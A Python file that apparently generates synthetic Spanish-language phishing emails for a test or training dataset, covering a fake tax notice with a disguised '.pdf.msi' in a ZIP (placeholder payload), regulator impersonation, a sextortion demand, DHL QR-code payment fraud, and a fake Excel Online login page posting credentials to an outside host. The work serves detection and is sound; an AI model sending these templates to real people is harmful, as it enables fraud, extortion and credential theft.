"""Attack messages 27-31 (Spanish)."""
from datetime import timedelta

from common import T, addr, text, attach, attach_text, multi, boundary, esc, H, ALNUM, local
from company import E, A, CIF_EXAMPLE_ES
from reg import attack, alt, mixed, related
import infra
import finance as fi
import files
import qr


def _html_paras(src, link=None, label=None, color='#004a8f'):
    out = []
    for p in src.strip().split('\n\n'):
        if link and '[[' in p:
            out.append('<p style="margin:22px 0"><a href="%s" style="background:%s;color:#fff;padding:10px 20px;'
                       'text-decoration:none">%s</a></p>' % (esc(link), color, esc(label)))
        else:
            out.append('<p>%s</p>' % esc(p).replace('\n', '<br>'))
    return ''.join(out)


@attack(27, 'es', 'aeat-notificacion-zip',
        '"Agencia Tributaria" notice that a DEHú notification (limited VAT audit, Modelo 303 Q3) concerns the '
        'Spanish entity; the "notification" is attached as a ZIP.',
        'Sent from the hijacked Roundcube mailbox of a Valencia car workshop (login from a foreign IP) with '
        'the display name "Agencia Tributaria"; AEAT notifications are only retrievable in DEHú/Sede, never '
        'attached; the plain ZIP holds "…pdf.msi" – the delivery pattern of Spanish banking trojans '
        '(inert placeholder here); deadline pressure.')
def a27(m):
    t = T(2026, 11, 5, 8, 12, 44)
    sender = 'administracion@talleresgarcia-valencia.es'
    f = dict(sender=sender, rcpt=E('es_acc'), frm=addr('Agencia Tributaria', sender), to=E('es_acc'),
             subject='Notificación disponible: requerimiento Modelo 303 - %s' % CIF_EXAMPLE_ES,
             scs=('ISO-8859-15', 'Q'))
    infra.exim_cpanel(m, t, f, 'es-cp31.servidoresdns.net', '82.98.134.31', client_ip='41.216.188.52',
                      zone='ES', mid_style='roundcube', ua=infra.UA_RC)
    src = """AGENCIA TRIBUTARIA
Sede Electrónica

Estimado/a contribuyente:

Le informamos de que se ha emitido una notificación en la Dirección Electrónica Habilitada única (DEHú) relativa a:

Procedimiento: Comprobación limitada - IVA, Modelo 303, 3T 2026
Obligado tributario: EXAMPLE IBERIA S.L. - NIF %s
Referencia: 2026GRC08410017X

Para su comodidad le remitimos una copia del requerimiento en el archivo adjunto (formato comprimido). Dispone de un plazo de 10 días hábiles para atender el requerimiento; transcurrido dicho plazo se continuará con el procedimiento y podrá iniciarse expediente sancionador.

Departamento de Gestión Tributaria
""" % CIF_EXAMPLE_ES
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-15"></head>'
            '<body style="font-family:Arial;font-size:13px">' + _html_paras(src) + '</body></html>')
    alt_part = multi('alternative', [text(src, 'ISO-8859-15', 'quoted-printable', params=['format=flowed'], ct_quote=False),
                                     text(html, 'ISO-8859-15', 'quoted-printable', 'html', ct_quote=False)],
                     boundary('roundcube', m.seed('alt')))
    z = files.make_zip([('Notificacion_AEAT_2026GRC08410017X.pdf.msi', files.PLACEHOLDER)],
                       local(t, 'ES')[0].replace(tzinfo=None) - timedelta(minutes=20), seed=m.seed('zip'))
    m.body = multi('mixed', [alt_part, attach(z, 'application/zip', 'Notificacion_AEAT_2026GRC08410017X.zip')],
                   boundary('roundcube', m.seed('mix')))


@attack(28, 'es', 'aemps-cosmetovigilancia',
        '"AEMPS – Cosmetovigilancia" reports a serious undesirable effect of a children\'s sun spray and '
        'demands the product information file within 72 hours via a "secure link".',
        'Regulator impersonation tailored to cosmetics (EU Regulation 1223/2009, arts. 23/27): Mailgun mail '
        'from aemps-cosmetovigilancia.es (AEMPS uses aemps.es and its own portals); the link leads to a '
        'login page; threat of product withdrawal.')
def a28(m):
    t = T(2026, 11, 9, 11, 35, 10)
    sender = 'alertas@aemps-cosmetovigilancia.es'
    f = dict(sender=sender, rcpt=E('es_mgr'), frm=addr('AEMPS - Cosmetovigilancia', sender), to=E('es_mgr'),
             subject='Efecto grave no deseado – solicitud urgente de información (Ref. CSV/2026/1187)')
    infra.mailgun(m, t, f, 'mg.aemps-cosmetovigilancia.es', '69.72.42.8', 'm42-8.mailgun.net')
    url = 'https://email.mg.aemps-cosmetovigilancia.es/c/%s' % H(m.seed('c'), 110, ALNUM + '_-')
    src = """Agencia Española de Medicamentos y Productos Sanitarios
Departamento de Productos Sanitarios – Área de Cosméticos y Productos de Cuidado Personal

Asunto: Notificación de efecto grave no deseado (EGND) – Ref. CSV/2026/1187

Muy Sres. míos:

En relación con la notificación de un efecto grave no deseado comunicada a través del Sistema Español de Cosmetovigilancia, asociada al producto «Example Sun Kids Spray SPF 50+» (lote L26-0644), les solicitamos que en un plazo de 72 horas remitan a esta Agencia la información sobre la seguridad del producto (art. 23 del Reglamento (CE) n.º 1223/2009) y la fórmula cualitativa y cuantitativa.

Puede consultar el expediente completo y cargar la documentación a través del siguiente enlace seguro:

[[Expediente CSV/2026/1187|%s]]

La falta de respuesta en plazo podrá dar lugar a la adopción de medidas provisionales, incluida la retirada del producto del mercado (art. 27).

Atentamente,

Área de Cosmetovigilancia
AEMPS
""" % url
    plain = src.replace('[[Expediente CSV/2026/1187|%s]]' % url, 'Expediente CSV/2026/1187: %s' % url)
    html = ('<html><body style="font-family:Arial;font-size:14px;color:#222"><div style="border-top:6px solid #0b5aa2;padding:10px 18px">'
            + _html_paras(src, url, 'Expediente CSV/2026/1187', '#0b5aa2') + '</div></body></html>')
    m.body = multi('alternative', [text(plain, 'utf-8', 'quoted-printable'), text(html, 'utf-8', 'quoted-printable', 'html')],
                   boundary('hex', m.seed('alt')))


@attack(29, 'es', 'sextorsion-bitcoin',
        'Sextortion: the sender claims to have hacked the recipient\'s device and filmed her, demanding '
        'USD 1,450 in Bitcoin within 48 hours.',
        'Extortion with a valid-checksum bech32 address; From and To are the victim\'s own address '
        '(spoofed) while the mail comes from an unrelated Brazilian server; no real compromise, scare '
        'tactics and a "tracking pixel" claim.')
def a29(m):
    t = T(2026, 11, 14, 23, 18, 51)
    me = E('es_acc')
    f = dict(sender=me, rcpt=me, frm=me, to=me, subject='Tengo acceso a tu dispositivo - pago pendiente',
             zone='BR', envfrom=me)
    infra.postfix_host(m, t, f, 'mail.imobiliariaboavista.com.br', 'ip-177-70-124-18.hostnet.com.br', '177.70.124.18',
                       '127.0.0.1', client_rdns='localhost', client_helo='localhost', auth=False, zone='BR',
                       mid_style='<%s@imobiliariaboavista.com.br>' % H(m.seed('mid'), 20, ALNUM))
    import finance
    btc = finance.btc_address(m.seed('btc'))
    src = """Hola:

Seguramente ya te habrás dado cuenta de que te envío este mensaje desde tu propia cuenta de correo. Eso significa que tengo acceso completo a ella y a tu dispositivo.

Hace unos meses, mientras visitabas una página para adultos, se instaló en tu equipo un programa que me dio control sobre la pantalla, el micrófono y la cámara. Desde entonces he podido ver todo lo que haces. Tengo una grabación tuya en una situación muy comprometida, junto con la página que estabas viendo, y también la lista completa de tus contactos, compañeros de trabajo y familiares.

Te propongo un trato: transfiere 1.450 USD en Bitcoin (al cambio del día) a la siguiente dirección y borraré todo para siempre:

%s

Si no sabes cómo comprar Bitcoin, búscalo en Google: es muy fácil.

Tienes 48 horas desde que abras este correo; he incluido un píxel de seguimiento que me avisa. Si no recibo el pago, enviaré el vídeo a todos tus contactos. No respondas a este mensaje y no intentes cambiar la contraseña: no servirá de nada. Si acudes a la policía, lo sabré.
""" % btc
    m.body = text(src, 'windows-1252', 'quoted-printable')


@attack(30, 'es', 'dhl-aduanas-qr',
        '"DHL Express – Aduanas" says a shipment from a Chinese packaging supplier is held at Barcelona '
        'customs pending EUR 184.62 in duties; pay by scanning a QR code.',
        'Quishing: the payment URL (dhl-aduanas-es.com) exists only inside a real, decodable QR image so '
        'link scanners miss it; Brevo bulk sender on a look-alike domain; DHL Express bills duties through '
        'its own portal/account, and imports are handled by the company\'s customs broker (business 30).')
def a30(m):
    t = T(2026, 11, 20, 9, 1, 36)
    sender = 'aduanas@dhl-express-aduanas.com'
    f = dict(sender=sender, rcpt=E('es_mgr'), frm=addr('DHL Express – Aduanas', sender, 'utf-8'), to=E('es_mgr'),
             subject='Envío 1864220731 retenido en aduana – pago de derechos pendiente')
    infra.brevo(m, t, f)
    url = 'https://dhl-aduanas-es.com/pago/1864220731?imp=184.62&c=%s' % H(m.seed('c'), 8)
    cid = 'qr%s@dhl' % H(m.seed('cid'), 8)
    src = """Estimado cliente:

Su envío internacional procedente de CHINA (remitente: Guangzhou Huali Packaging Co., Ltd.), número de guía 1864220731, se encuentra retenido en la aduana de Barcelona-El Prat pendiente del pago de los derechos e impuestos de importación (arancel e IVA a la importación).

Importe pendiente: 184,62 EUR
Fecha límite: 27/11/2026

Para agilizar el despacho, escanee el código QR con su teléfono móvil y complete el pago y la declaración de valor. Transcurrido el plazo, la mercancía será devuelta al origen con cargo al remitente.

Atentamente,
DHL Express Spain – Departamento de Aduanas
"""
    paras = src.strip().split('\n\n')
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            '<body style="font-family:Arial;font-size:14px;background:#fff">'
            '<div style="background:#ffcc00;padding:14px 20px"><b style="color:#d40511;font-size:22px;font-style:italic">DHL</b>'
            ' <span style="color:#d40511">EXPRESS</span></div><div style="padding:16px 20px;max-width:560px">'
            + ''.join('<p>%s</p>' % esc(p).replace('\n', '<br>') for p in paras[:3])
            + '<p style="text-align:center"><img src="cid:%s" width="170" height="170" alt="Código QR de pago"></p>' % cid
            + ''.join('<p>%s</p>' % esc(p).replace('\n', '<br>') for p in paras[3:]) + '</div></body></html>')
    img = attach(qr.qr_png(url, 6), 'image/png', 'pago_aduana.png', disposition='inline', cid=cid)
    m.body = multi('alternative', [text(src, 'utf-8', 'quoted-printable'),
                                   related(m, 'hex', text(html, 'utf-8', 'quoted-printable', 'html'), img)],
                   boundary('hex', m.seed('alt')))


XLS_HTML = """<!DOCTYPE html>
<html lang="es"><head><meta charset="iso-8859-1"><title>Pedido_PO-2026-1184.xlsx - Excel</title>
<style>body{margin:0;font-family:"Segoe UI",Arial;background:#e6e6e6}
.bar{background:#217346;color:#fff;padding:10px 16px;font-size:15px}
.grid{filter:blur(3px);background:#fff;margin:0;height:420px;
background-image:linear-gradient(#ddd 1px,transparent 1px),linear-gradient(90deg,#ddd 1px,transparent 1px);background-size:90px 22px}
.dlg{position:absolute;top:120px;left:50%%;margin-left:-200px;width:400px;background:#fff;padding:28px;box-shadow:0 4px 18px rgba(0,0,0,.35)}
input{width:100%%;padding:8px;margin:6px 0 12px;border:1px solid #999}
button{background:#217346;color:#fff;border:0;padding:9px 26px}</style></head>
<body><div class="bar">Excel &middot; Pedido_PO-2026-1184.xlsx</div><div class="grid"></div>
<div class="dlg"><b>Este libro está protegido</b><p style="font-size:13px">Inicie sesión con la cuenta corporativa de su organización para ver el contenido del pedido.</p>
<form action="%(action)s" method="post"><input type="email" name="email" value="%(email)s">
<input type="password" name="pass" placeholder="Contraseña"><button type="submit">Iniciar sesión</button></form></div>
</body></html>
"""


@attack(31, 'es', 'pedido-xlsx-html',
        'Purchase order for the 2027 sun-care campaign from a look-alike of the e-commerce customer Bellezza '
        'Online; attachment "Pedido_PO-2026-1184.xlsx.html".',
        'Domain bellezza-online.es imitates the real customer bellezzaonline.es; double extension '
        '.xlsx.html; the file is a fake Excel Online page with a login form that posts credentials to an '
        'external host. The genuine request for quotation from this customer is business 31.')
def a31(m):
    t = T(2026, 11, 25, 8, 48, 2)
    sender = 'compras@bellezza-online.es'
    f = dict(sender=sender, rcpt=E('es_mgr'), frm=addr('Irene Castro', sender), to=A('es_mgr', 'iso-8859-1'),
             subject='Pedido de compra PO-2026-1184 - campaña solar 2027', scs=('iso-8859-1', 'Q'))
    infra.exim_cpanel(m, t, f, 'cp-es7.webempresa.eu', '185.47.13.107', client_ip='102.129.152.40', zone='ES',
                      mid_style='roundcube', ua=infra.UA_RC)
    src = """Buenos días, Javier:

Tal como comentamos, os adjuntamos el pedido de compra para la campaña de solares 2027 (referencias SPF 30/50 y after sun) con las cantidades por almacén. Os agradeceríamos la confirmación de precios y plazos de entrega antes del viernes.

El documento se abre en Excel Online; si os pide iniciar sesión, usad vuestra cuenta corporativa.

Un saludo,

Irene Castro
Responsable de Compras
Bellezza Online S.L.
"""
    html = XLS_HTML % dict(action='https://office-viewer-es.com/xl/auth.php', email=E('es_mgr'))
    m.body = mixed(m, 'roundcube', text(src, 'ISO-8859-1', 'quoted-printable', params=['format=flowed'], ct_quote=False),
                   attach_text(html, 'text/html', 'Pedido_PO-2026-1184.xlsx.html', 'iso-8859-1', 'base64'))
